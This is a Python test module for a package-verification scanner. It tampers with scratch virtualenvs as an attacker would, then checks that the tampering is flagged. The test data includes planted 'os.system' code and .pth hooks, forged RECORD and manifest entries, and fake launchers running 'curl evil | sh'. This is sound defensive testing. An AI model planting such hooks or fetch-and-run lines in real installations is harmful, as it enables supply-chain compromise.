"""Environment scans compare the installed files with the verified wheel (issue 8, rule 5).

Real wheels signed by the local test authority are served on 127.0.0.1 and installed by real
pip into scratch virtualenvs; each test tampers with a copy of the installation as an attacker
with write access to site-packages would, and scans it with `pyvouch scan VENV`.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from pyvouch.testing import TestAuthority
from pyvouch.wheel_fetch.manifests import LAYOUT, ManifestCache
from tests.scan.conftest import Scan, packages_of
from tests.support.install_sites import APP, real_dists
from tests.support.installed_sites import (
    attacker_site,
    b64,
    copy_venv,
    good_site,
    installed_venv,
    rewrite_record,
    site_packages,
    write_wheel,
)
from tests.support.policy_sites import Minter, build_site
from tests.support.static_server import StaticServer, serve_directory
from tests.support.venvs import Venv

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def minter() -> Minter:
    return Minter(TestAuthority())


@pytest.fixture(scope="module")
def trust(minter: Minter, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return minter.authority.write_trust_files(tmp_path_factory.mktemp("trust"))["trusted_root"]


@pytest.fixture(scope="module")
def good_root(minter: Minter, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return good_site(minter, tmp_path_factory.mktemp("good"))


@pytest.fixture(scope="module")
def good(good_root: Path) -> Iterator[StaticServer]:
    with serve_directory(good_root, negotiate=True) as server:
        yield server


@pytest.fixture(scope="module")
def pristine(good: StaticServer, tmp_path_factory: pytest.TempPathFactory) -> Venv:
    return installed_venv(
        tmp_path_factory.mktemp("pristine") / "venv",
        good.index_url,
        "tool",
        "other",
        "ns-a",
        "ns-b",
    )


@pytest.fixture
def venv(pristine: Venv, tmp_path: Path) -> Venv:
    return copy_venv(pristine, tmp_path / "venv")


def run(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path, *args: str
) -> tuple[int, dict[str, Any]]:
    return scan.json(
        str(venv.root), "--index-url", good.index_url, "--trust-root", str(trust), *args
    )


def file_of(doc: dict[str, Any], name: str) -> dict[str, Any]:
    (only,) = packages_of(doc)[name]["files"]
    return only


def tool_info(venv: Venv) -> Path:
    return site_packages(venv) / "tool-1.0.dist-info"


# -- the honest installation ----------------------------------------------------------------


def test_untouched_installation_verifies(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    code, doc = run(scan, venv, good, trust, "--mode", "enforce")
    assert code == 0, doc
    pkgs = packages_of(doc)
    assert {name: p["status"] for name, p in pkgs.items()} == {
        "tool": "verified",
        "other": "verified",
        "ns-a": "verified",  # a namespace package shared with ns-b
        "ns-b": "verified",
    }
    tool = file_of(doc, "tool")
    assert tool["filename"] == "tool-1.0-py3-none-any.whl"
    assert "the installed files are this wheel's" in tool["reason"]
    # pip rewrote the #!python line of the script and wrote the entry point's launcher: both
    # are what an installer legitimately does.
    assert (venv.root / "bin" / "runme").read_bytes().startswith(b"#!/")
    assert (venv.root / "bin" / "tool").is_file()
    assert doc["warnings"] == []


# -- files against RECORD -------------------------------------------------------------------


def test_edited_installed_py_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    core = site_packages(venv) / "tool" / "core.py"
    core.write_bytes(b"VALUE = 2\n")  # same size: the hash must catch it
    code, doc = run(scan, venv, good, trust, "--mode", "enforce")
    assert code == 1
    tool = file_of(doc, "tool")
    assert tool["status"] == "invalid"
    assert "tool/core.py (sha256 differs from RECORD)" in tool["reason"]
    assert packages_of(doc)["other"]["status"] == "verified"


def test_grown_file_is_invalid(scan: Scan, venv: Venv, good: StaticServer, trust: Path) -> None:
    core = site_packages(venv) / "tool" / "core.py"
    core.write_bytes(core.read_bytes() + b"import os\n")
    _code, doc = run(scan, venv, good, trust)
    assert file_of(doc, "tool")["status"] == "invalid"
    assert "tool/core.py (20 bytes, RECORD says 10)" in file_of(doc, "tool")["reason"]


def test_deleted_file_is_invalid(scan: Scan, venv: Venv, good: StaticServer, trust: Path) -> None:
    (site_packages(venv) / "tool_extra.py").unlink()
    _code, doc = run(scan, venv, good, trust)
    assert file_of(doc, "tool")["status"] == "invalid"
    assert "tool_extra.py (missing)" in file_of(doc, "tool")["reason"]


def test_edited_script_is_invalid(scan: Scan, venv: Venv, good: StaticServer, trust: Path) -> None:
    script = venv.root / "bin" / "runme"
    script.write_bytes(script.read_bytes() + b"print('more')\n")
    _code, doc = run(scan, venv, good, trust)
    assert file_of(doc, "tool")["status"] == "invalid"
    assert "../../../bin/runme" in file_of(doc, "tool")["reason"]


# -- RECORD against the verified wheel ------------------------------------------------------


def test_replaced_file_with_fixed_record_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    evil = b"import os; os.system('id')\n"
    (site_packages(venv) / "tool" / "core.py").write_bytes(evil)
    rewrite_record(tool_info(venv), "tool/core.py", evil)
    code, doc = run(scan, venv, good, trust, "--mode", "enforce")
    assert code == 1
    tool = file_of(doc, "tool")
    assert tool["status"] == "invalid"
    assert "tool/core.py (differs from the verified wheel)" in tool["reason"]
    assert "tool-1.0-py3-none-any.whl" in tool["reason"]
    assert tool["publisher"] is None  # nothing vouches for these files


def test_script_body_replaced_with_fixed_record_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    script = venv.root / "bin" / "runme"
    first = script.read_bytes().split(b"\n", 1)[0]
    evil = first + b"\nimport os; os.system('id')\n"
    script.write_bytes(evil)
    rewrite_record(tool_info(venv), "../../../bin/runme", evil)
    _code, doc = run(scan, venv, good, trust)
    tool = file_of(doc, "tool")
    assert tool["status"] == "invalid"
    assert "after its #! line" in tool["reason"]


def test_shebang_script_not_a_shebang_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    script = venv.root / "bin" / "runme"
    body = script.read_bytes().split(b"\n", 1)[1]
    evil = b"import os; os.system('id')\n" + body  # the #! line replaced by code
    script.write_bytes(evil)
    rewrite_record(tool_info(venv), "../../../bin/runme", evil)
    _code, doc = run(scan, venv, good, trust)
    assert file_of(doc, "tool")["status"] == "invalid"


def test_plain_script_is_compared_byte_for_byte(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    (venv.root / "bin" / "plain.sh").write_bytes(evil)
    rewrite_record(tool_info(venv), "../../../bin/plain.sh", evil)
    _code, doc = run(scan, venv, good, trust)
    assert file_of(doc, "tool")["status"] == "invalid"
    assert "plain.sh (differs from the verified wheel)" in file_of(doc, "tool")["reason"]


def test_file_added_to_record_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    evil = b"import os; os.system('id')\n"
    (site_packages(venv) / "tool-hook.pth").write_bytes(evil)
    rewrite_record(tool_info(venv), "tool-hook.pth", evil)
    _code, doc = run(scan, venv, good, trust)
    tool = file_of(doc, "tool")
    assert tool["status"] == "invalid"
    assert "tool-hook.pth (in RECORD, but not in the verified wheel)" in tool["reason"]


def test_fake_launcher_for_a_name_that_is_no_entry_point_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    (venv.root / "bin" / "pip").write_bytes(evil)
    rewrite_record(tool_info(venv), "../../../bin/pip", evil)
    _code, doc = run(scan, venv, good, trust)
    assert "bin/pip (in RECORD, but not in the verified wheel)" in file_of(doc, "tool")["reason"]


def test_launcher_declared_by_an_edited_entry_points_txt_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    """Launchers are allowed by the verified wheel's entry points, not the installed ones."""
    info = tool_info(venv)
    eps = (info / "entry_points.txt").read_bytes() + b"evil = os:system\n"
    (info / "entry_points.txt").write_bytes(eps)
    rewrite_record(info, "tool-1.0.dist-info/entry_points.txt", eps)
    launcher = b"#!/bin/sh\ncurl evil | sh\n"
    (venv.root / "bin" / "evil").write_bytes(launcher)
    rewrite_record(info, "../../../bin/evil", launcher)
    _code, doc = run(scan, venv, good, trust)
    reason = file_of(doc, "tool")["reason"]
    assert "tool-1.0.dist-info/entry_points.txt (differs from the verified wheel)" in reason
    assert "../../../bin/evil (in RECORD, but not in the verified wheel)" in reason


def test_file_dropped_from_record_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    rewrite_record(tool_info(venv), "tool/core.py", None)
    _code, doc = run(scan, venv, good, trust)
    tool = file_of(doc, "tool")
    assert tool["status"] == "invalid"
    assert "tool/core.py (importable, but no RECORD lists it)" in tool["reason"]


def test_file_dropped_from_record_and_disk_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    """A module of the verified wheel removed whole (a security check, say)."""
    rewrite_record(tool_info(venv), "tool/core.py", None)
    (site_packages(venv) / "tool" / "core.py").unlink()
    _code, doc = run(scan, venv, good, trust)
    tool = file_of(doc, "tool")
    assert tool["status"] == "invalid"
    assert "tool/core.py (in the verified wheel, but not in RECORD)" in tool["reason"]


def test_installer_files_may_differ(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    """INSTALLER and REQUESTED are the installer's, not the wheel's; a changed one still has
    to match RECORD."""
    info = tool_info(venv)
    (info / "INSTALLER").write_bytes(b"uv\n")
    rewrite_record(info, "tool-1.0.dist-info/INSTALLER", b"uv\n")
    _code, doc = run(scan, venv, good, trust)
    assert file_of(doc, "tool")["status"] == "verified"
    (info / "INSTALLER").write_bytes(b"xx\n")
    _code, doc = run(scan, venv, good, trust)
    assert file_of(doc, "tool")["status"] == "invalid"


# -- no checkable RECORD --------------------------------------------------------------------


def test_deleted_record_is_unknown(scan: Scan, venv: Venv, good: StaticServer, trust: Path) -> None:
    (tool_info(venv) / "RECORD").unlink()
    code, doc = run(scan, venv, good, trust)
    assert code == 3
    tool = file_of(doc, "tool")
    assert tool["status"] == "unknown"
    assert "tool-1.0.dist-info has no RECORD" in tool["reason"]
    assert packages_of(doc)["other"]["status"] == "verified"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("tool/core.py,sha256=abc,notasize\n", "cannot be parsed"),
        ("tool/core.py,,\ntool/__init__.py,,\n", "lists no hashes"),
        ("", "lists no files"),
        ("tool/core.py,md5=XUFAKrxLKna5cZ2REBfFkg,10\n", "'md5' hash"),
        ("tool/core.py,sha256=not*base64,10\n", "not urlsafe base64"),
        ("tool/core.py,sha256=AAAA,10\n", "wrong length"),
        ("tool/core.py,sha256=AAAA,10,extra\n", "cannot be parsed"),
    ],
)
def test_unusable_record_is_unknown(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path, text: str, reason: str
) -> None:
    (tool_info(venv) / "RECORD").write_text(text, encoding="utf-8")
    _code, doc = run(scan, venv, good, trust)
    tool = file_of(doc, "tool")
    assert tool["status"] == "unknown"
    assert reason in tool["reason"]


def test_egg_info_installation_is_unknown(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    """A legacy (setup.py install) installation records no hashes at all."""
    site = site_packages(venv)
    shutil.rmtree(site / "other-1.0.dist-info")
    egg = site / "other-1.0-py3.11.egg-info"
    egg.mkdir()
    (egg / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: other\nVersion: 1.0\n")
    (egg / "installed-files.txt").write_text("../other.py\n")
    _code, doc = run(scan, venv, good, trust)
    other = file_of(doc, "other")
    assert other["status"] == "unknown"
    assert "other-1.0-py3.11.egg-info has no RECORD" in other["reason"]


def test_record_that_is_not_utf8_is_unknown(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    (tool_info(venv) / "RECORD").write_bytes(b"tool/core.py,sha256=\xff\xfe,10\n")
    _code, doc = run(scan, venv, good, trust)
    assert file_of(doc, "tool")["status"] == "unknown"


# -- files no RECORD lists ------------------------------------------------------------------


def test_unowned_pth_is_a_warning(scan: Scan, venv: Venv, good: StaticServer, trust: Path) -> None:
    pth = site_packages(venv) / "zzz-hook.pth"
    pth.write_text("import os\n")
    _code, doc = run(scan, venv, good, trust)
    assert any(str(pth) in w and "no installed distribution" in w for w in doc["warnings"])
    # No distribution vouches for it, so none is blamed (see docs/scan.md).
    assert packages_of(doc)["tool"]["status"] == "verified"


@pytest.mark.parametrize(
    "planted",
    [
        "tool/__init__.cpython-311-x86_64-linux-gnu.so",  # shadows tool/__init__.py
        "tool/helpers.py",
        "tool/sub/__init__.py",
        "tool_extra.abi3.so",  # shadows the top-level module
        "tool/core.pyc",  # sourceless bytecode beside the package
    ],
)
def test_planted_importable_file_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path, planted: str
) -> None:
    path = site_packages(venv) / planted
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"evil")
    _code, doc = run(scan, venv, good, trust)
    tool = file_of(doc, "tool")
    assert tool["status"] == "invalid"
    assert f"{planted} (importable, but no RECORD lists it)" in tool["reason"]


def test_planted_directory_through_a_symbolic_link_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "__init__.py").write_text("import os\n")
    (site_packages(venv) / "tool" / "sub").symlink_to(elsewhere, target_is_directory=True)
    (elsewhere / "loop").symlink_to(elsewhere, target_is_directory=True)  # walked once
    _code, doc = run(scan, venv, good, trust)
    tool = file_of(doc, "tool")
    assert tool["status"] == "invalid"
    assert "tool/sub/__init__.py (importable, but no RECORD lists it)" in tool["reason"]


def test_file_listed_by_another_distribution_in_a_regular_package_is_invalid(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    """A made-up distribution whose RECORD claims a file planted in tool's own package."""
    site = site_packages(venv)
    evil = b"import os\n"
    (site / "tool" / "__init__.abi3.so").write_bytes(evil)
    fake = site / "helper-1.0.dist-info"
    fake.mkdir()
    (fake / "METADATA").write_text("Metadata-Version: 2.1\nName: helper\nVersion: 1.0\n")
    (fake / "RECORD").write_text("")
    rewrite_record(fake, "tool/__init__.abi3.so", evil)
    _code, doc = run(scan, venv, good, trust)
    tool = file_of(doc, "tool")
    assert tool["status"] == "invalid"
    assert (
        "tool/__init__.abi3.so (importable, listed only by helper-1.0.dist-info/RECORD)"
        in tool["reason"]
    )
    # the made-up distribution is not on the index: nothing verified it either
    assert packages_of(doc)["helper"]["status"] == "unknown"


def test_namespace_package_files_of_a_sibling_are_fine_but_unlisted_ones_are_not(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    planted = site_packages(venv) / "acme_ns" / "c.py"
    planted.write_text("import os\n")
    _code, doc = run(scan, venv, good, trust)
    for name in ("ns-a", "ns-b"):  # both own the namespace: both are blamed
        finding = file_of(doc, name)
        assert finding["status"] == "invalid"
        assert "acme_ns/c.py (importable, but no RECORD lists it)" in finding["reason"]


def test_unlisted_data_and_bytecode_caches_are_not_judged(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    site = site_packages(venv)
    (site / "tool" / "cache.json").write_text("{}")
    (site / "tool" / "__pycache__" / "core.cpython-399.pyc").write_bytes(b"x")
    _code, doc = run(scan, venv, good, trust)
    assert file_of(doc, "tool")["status"] == "verified"


# -- a substituted distribution -------------------------------------------------------------


@pytest.mark.parametrize("tag", ["py3-none-any", "py2.py3-none-any"])
def test_substituted_wheel_is_invalid(
    scan: Scan, good: StaticServer, trust: Path, tmp_path: Path, tag: str
) -> None:
    """``other`` 1.0 installed from an attacker's index: same name and version, other code,
    and a RECORD that matches its own files."""
    with serve_directory(attacker_site(tmp_path / "evil", tag=tag), negotiate=True) as evil:
        venv = installed_venv(tmp_path / "venv", evil.index_url, "other")
    code, doc = run(scan, venv, good, trust, "--mode", "enforce")
    assert code == 1
    other = file_of(doc, "other")
    assert other["status"] == "invalid"
    assert "other.py (differs from the verified wheel)" in other["reason"]


def test_substituted_wheel_with_tags_the_index_lacks_is_unknown(
    scan: Scan, good: StaticServer, trust: Path, tmp_path: Path
) -> None:
    with serve_directory(
        attacker_site(tmp_path / "evil", tag="py311-none-any"), negotiate=True
    ) as evil:
        venv = installed_venv(tmp_path / "venv", evil.index_url, "other")
    code, doc = run(scan, venv, good, trust)
    assert code == 3
    other = file_of(doc, "other")
    assert other["status"] == "unknown"
    assert "lists no wheel with the installed tags (py311-none-any)" in other["reason"]


# -- the wheel that is compared -------------------------------------------------------------


def test_served_wheel_must_be_the_verified_one(
    scan: Scan, pristine: Venv, good_root: Path, trust: Path, tmp_path: Path
) -> None:
    """The index lists (and the attestation covers) one digest, but the file URL serves other
    bytes: nothing is compared with them."""
    site = tmp_path / "site"
    shutil.copytree(good_root, site)
    wheel = site / "files" / "tool" / "tool-1.0-py3-none-any.whl"
    wheel.write_bytes(wheel.read_bytes() + b"\0")
    with serve_directory(site, negotiate=True) as server:
        _code, doc = run(scan, pristine, server, trust)
    tool = file_of(doc, "tool")
    assert tool["status"] == "unknown"
    assert "not the verified" in tool["reason"]
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    assert digest in tool["reason"]


def test_warm_scan_compares_offline_with_the_cached_manifest(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    before = sum(1 for r in good.requests if r[1].startswith("/files/"))
    _code, warm = run(scan, venv, good, trust)
    assert packages_of(warm)["tool"]["status"] == "verified"
    downloads = sum(1 for r in good.requests if r[1].startswith("/files/"))
    assert downloads == before + 4  # one wheel per distribution
    _code, doc = run(scan, venv, good, trust, "--offline")
    assert file_of(doc, "tool")["status"] == "verified"
    assert "the installed files are this wheel's" in file_of(doc, "tool")["reason"]
    # the cached manifest still judges the installation
    (site_packages(venv) / "tool" / "core.py").write_bytes(b"VALUE = 9\n")
    rewrite_record(tool_info(venv), "tool/core.py", b"VALUE = 9\n")
    _code, doc = run(scan, venv, good, trust, "--offline")
    assert file_of(doc, "tool")["status"] == "invalid"
    assert sum(1 for r in good.requests if r[1].startswith("/files/")) == downloads


def test_cold_offline_scan_cannot_compare(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path
) -> None:
    _code, doc = run(scan, venv, good, trust, "--offline")
    assert packages_of(doc)["tool"]["status"] == "unknown"


def _manifest_entry(scan: Scan, name: str) -> Path:
    (entry,) = [
        p
        for p in (scan.cache / LAYOUT).glob("*/*.json")
        if name in json.loads(p.read_bytes())["value"]
    ]
    return entry


@pytest.mark.parametrize("forgery", ["other-key", "copied-entry", "no-mac"])
def test_planted_manifest_cannot_vouch_for_a_tampered_install(
    scan: Scan, venv: Venv, good: StaticServer, trust: Path, forgery: str
) -> None:
    """An attacker who can write the cache (a CI cache restored from another branch) plants
    a manifest that matches their edited tool/core.py."""
    run(scan, venv, good, trust)  # warm: the real manifests are cached
    evil = b"import os; os.system('id')\n"
    (site_packages(venv) / "tool" / "core.py").write_bytes(evil)
    rewrite_record(tool_info(venv), "tool/core.py", evil)
    entry = _manifest_entry(scan, "tool-1.0-py3-none-any.whl")
    value = json.loads(json.loads(entry.read_bytes())["value"])
    value["members"]["tool/core.py"] = [hashlib.sha256(evil).hexdigest(), len(evil), None]
    forged = json.dumps(value, sort_keys=True, separators=(",", ":"))
    if forgery == "other-key":
        mac = ManifestCache(entry.parent, b"k" * 32)._mac(entry.stem, forged.encode())
    elif forgery == "copied-entry":  # a genuine entry of another wheel, under this digest
        other = json.loads(_manifest_entry(scan, "other-1.0-py3-none-any.whl").read_bytes())
        forged, mac = other["value"], other["mac"]
    else:
        mac = ""
    entry.write_text(json.dumps({"value": forged, "mac": mac}))
    _code, doc = run(scan, venv, good, trust, "--offline")
    assert file_of(doc, "tool")["status"] == "unknown"  # a miss: offline, nothing to compare
    _code, doc = run(scan, venv, good, trust)
    tool = file_of(doc, "tool")
    assert tool["status"] == "invalid"  # downloaded again, and compared with the real wheel
    assert "tool/core.py (differs from the verified wheel)" in tool["reason"]


def test_b64_helper_matches_pip() -> None:
    # the test helper writes RECORD as pip does (urlsafe, no padding)
    assert b64(hashlib.sha256(b"").digest()) == "47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU"


# -- a real wheel with its real attestation -------------------------------------------------


def test_real_wheel_installed_by_pip_verifies_until_edited(scan: Scan, tmp_path: Path) -> None:
    """rfc8785 0.1.2 as published on PyPI, with its real (staging) attestation."""
    site = build_site(real_dists(tmp_path / "dists"), tmp_path / "site")
    with serve_directory(site, negotiate=True) as server:
        venv = installed_venv(tmp_path / "venv", server.index_url, "rfc8785")
        args = (str(venv.root), "--index-url", server.index_url, "--staging")
        code, doc = scan.json(*args)
        assert code == 0, doc
        rfc = file_of(doc, "rfc8785")
        assert rfc["status"] == "verified"
        assert "the installed files are this wheel's" in rfc["reason"]
        impl = site_packages(venv) / "rfc8785" / "_impl.py"
        impl.write_bytes(impl.read_bytes().replace(b"def ", b"def  ", 1)[:-1])
        code, doc = scan.json(*args)
    rfc = file_of(doc, "rfc8785")
    assert rfc["status"] == "invalid"
    assert "rfc8785/_impl.py (sha256 differs from RECORD)" in rfc["reason"]


def test_launchers_pip_writes_for_its_own_version_verify(
    scan: Scan, minter: Minter, trust: Path, tmp_path: Path
) -> None:
    """pip replaces a wheel's pipX.Y entry point with one for the Python it installs into."""
    dists = tmp_path / "dists"
    eps = b"[console_scripts]\npip = piplike:main\npip3 = piplike:main\npip3.99 = piplike:main\n"
    files = {
        "piplike.py": b"def main():\n    pass\n",
        "piplike-1.0.dist-info/entry_points.txt": eps,
    }
    minter.sign([write_wheel(dists, "piplike", "1.0", files)], APP)
    with serve_directory(build_site(dists, tmp_path / "site"), negotiate=True) as server:
        venv = installed_venv(tmp_path / "venv", server.index_url, "piplike")
        assert not (venv.root / "bin" / "pip3.99").exists()
        code, doc = run(scan, venv, server, trust)
    assert code == 0, doc
    assert file_of(doc, "piplike")["status"] == "verified"


def test_dry_run_says_the_installed_files_are_compared(scan: Scan, venv: Venv) -> None:
    result = scan(str(venv.root), "--dry-run")
    assert result.exit_code == 0, result.output
    assert "tool 1.0: the index's wheel with the installed tags" in result.stdout
